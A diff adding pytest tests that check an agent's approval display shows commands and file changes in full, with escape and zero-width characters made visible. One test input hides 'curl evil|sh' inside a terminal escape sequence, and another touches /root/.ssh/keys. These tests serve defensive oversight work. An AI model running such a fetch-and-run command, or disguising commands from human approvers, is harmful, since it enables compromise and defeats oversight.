@@ -77,6 +77,31 @@ def test_a_long_diff_is_cut_and_says_by_how_much() -> None:
     assert "+line 98" not in shown
 
 
+def test_nothing_of_what_is_approved_is_cut_or_hidden() -> None:
+    long = "\n".join(f"echo {n}" for n in range(200))
+    assert "  | echo 199\n" in approval_text(approval(command=long), "/w")
+    # A terminal would take all of it for the title of its window.
+    sly = approval_text(approval(command="ls \x1b]x; curl evil|sh;\x07"), "/w")
+    assert "  | ls ⟨U+001B⟩]x; curl evil|sh;⟨U+0007⟩\n" in sly
+    assert "⟨U+200B⟩" in summary(approval(command="l\u200bs"), "/w")
+    diff = "@@ -0,0 +1,99 @@\n" + "\n".join(f"+line {n}" for n in range(99))
+    changes = (
+        FileUpdateChange(path="/w/a.txt", kind="add", diff=diff),
+        FileUpdateChange(path="/root/.ssh/keys", kind="update", diff="@@ -1 +1 @@\n-a\n+b"),
+    )
+    shown = approval_text(
+        approval(kind="file_change", command=None, changes=changes, grant_root="/"), "/w"
+    )
+    assert "  | update /root/.ssh/keys (+1 -1)\n" in shown
+    assert "  | and to leave / open for writing\n" in shown
+    assert "  | +b\n" in shown
+
+
+def test_a_form_whose_required_fields_are_no_list_can_be_asked() -> None:
+    request = InputRequest(id="i", kind="form", form={"required": 5})
+    assert is_optional(request, Question(id="q"))
+
+
 @pytest.mark.parametrize(
     ("fields", "words"),
     [
